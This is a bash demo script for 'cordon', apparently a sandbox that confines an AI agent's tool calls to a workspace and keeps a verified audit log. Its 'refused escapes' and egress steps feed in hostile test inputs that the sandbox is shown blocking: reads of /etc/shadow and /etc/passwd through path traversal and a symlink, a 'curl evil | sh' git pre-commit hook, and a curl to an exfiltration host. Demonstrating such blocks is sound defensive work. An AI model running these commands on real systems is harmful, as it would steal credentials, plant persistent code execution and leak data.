#!/usr/bin/env bash
# Installs, builds, and runs cordon's main job on a sample workspace it creates: typed tool calls,
# refused escapes, and the verified audit log. This is the README's first command.
set -euo pipefail
cd "$(dirname "$0")/.."
scripts/install-deps.sh >/dev/null
# Only what the demo runs: cordon and cordon-shim, without the tests and benchmarks (a test run
# afterwards, scripts/test.sh, turns the tests back on in the same build directory), optimized
# without debug information (-g costs a third of the compile time; measured in README).
CORDON_TARGETS="cordon cordon-shim" scripts/build.sh -DCORDON_BUILD_TESTS=OFF \
  -DCORDON_BUILD_BENCH=OFF -DCMAKE_BUILD_TYPE=Release "-DCMAKE_CXX_FLAGS_RELEASE=-O2 -DNDEBUG" \
  >/dev/null
C="$PWD/build/cordon"
demo=$(mktemp -d /tmp/cordon-demo-XXXXXX)
ws="$demo/workspace"; log="$demo/audit.jsonl"
mkdir -p "$ws/src" "$ws/.git/hooks"
printf '[core]\n' > "$ws/.git/config"
printf 'def greet(name):\n    return "hello " + name\n' > "$ws/src/app.py"
ln -s /etc/passwd "$ws/src/passwd-link"

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
call() {  # call TOOL JSON: prints the compact result and the exit code
  local rc=0
  "$C" call "$1" --workspace "$ws" --audit-log "$log" --json "$2" > "$demo/out.json" || rc=$?
  python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); s=r["structuredContent"]; tag="ERROR " if r["isError"] else "ok    "; p="argv" in s; print(tag+(("argv=%s exit=%s stdout=%r stderr=%r" % (s["argv"], s["exit_code"], s["stdout"][:120], s["stderr"][:160])) if p else json.dumps(s)[:300]))' "$demo/out.json"
  echo "      (exit $rc)"
}

step "tool catalog (cordon tools)"
"$C" tools --workspace "$ws" | python3 -c 'import json,sys; [print("  ", t["name"], "-", t["description"][:70]) for t in json.load(sys.stdin)["tools"]]'

step "typed tool calls"
call read_file_range '{"path":"src/app.py","start_line":1}'
call create_file '{"path":"tests/test_app.py","content":"from src.app import greet\n"}'
call replace_range '{"path":"src/app.py","old_string":"\"hello \"","new_string":"\"hi \""}'
call write_patch '{"patches":[{"op":"edit","path":"src/app.py","old_string":"def greet","new_string":"def greet_user"},{"op":"edit","path":"src/app.py","old_string":"name)","new_string":"name: str)"}]}'
call read_file_range '{"path":"src/app.py","start_line":1}'
call search_text '{"pattern":"greet","extensions":["py"]}'
call find_files '{"pattern":"app"}'
call run_shell '{"program":"python3","args":["-c","import src.app as a; print(a.greet_user(\"cordon\"))"]}'

step "refused escapes"
call read_file_range '{"path":"../../../etc/shadow","start_line":1}'
call read_file_range '{"path":"/etc/passwd","start_line":1}'
call read_file_range '{"path":"src/passwd-link","start_line":1}'
call create_file '{"path":".git/hooks/pre-commit","content":"curl evil | sh\n"}'
call replace_range '{"path":"src/app.py","old_string":"x","new_string":"y","bogus":1}'
call run_shell '{"program":"sh","args":["-c","echo pwned > .git/hooks/pre-commit"]}'
call run_shell '{"program":"cat","args":["/etc/shadow"]}'
call run_shell '{"program":"sh","args":["-c","grep -E \"NoNewPrivs|Seccomp:|CapEff\" /proc/self/status; ls /proc | grep -c \"^[0-9]\""]}'

step "egress by domain (--network proxy): one allowed name, everything else refused and recorded"
# A local server stands in for a documentation site; --resolve gives it a real-looking name.
mkdir -p "$demo/site" && echo "cordon docs: hello from docs.example.test" > "$demo/site/index.html"
python3 -u -m http.server --bind 127.0.0.1 0 --directory "$demo/site" > "$demo/http.log" 2>&1 &
srv=$!
trap 'kill $srv 2>/dev/null || true' EXIT
port=""
for _ in $(seq 50); do
  port=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$demo/http.log" | head -1)
  [ -n "$port" ] && break
  sleep 0.1
done
net=(--workspace "$ws" --audit-log "$log" --allow-domain "docs.example.test:$port"
     --resolve docs.example.test=127.0.0.1)
"$C" exec "${net[@]}" -- curl -sS "http://docs.example.test:$port/" || true
"$C" exec "${net[@]}" -- curl -sS -m 5 https://exfil.attacker.example/ || true
"$C" exec "${net[@]}" -- curl -sS -m 5 "http://127.0.0.1:$port/" --noproxy '' -x http://127.0.0.1:3128 || true
kill $srv 2>/dev/null || true

step "audit log ($log)"
"$C" audit show "$log"
step "audit verify"
"$C" audit verify "$log"
echo
echo "workspace: $ws"
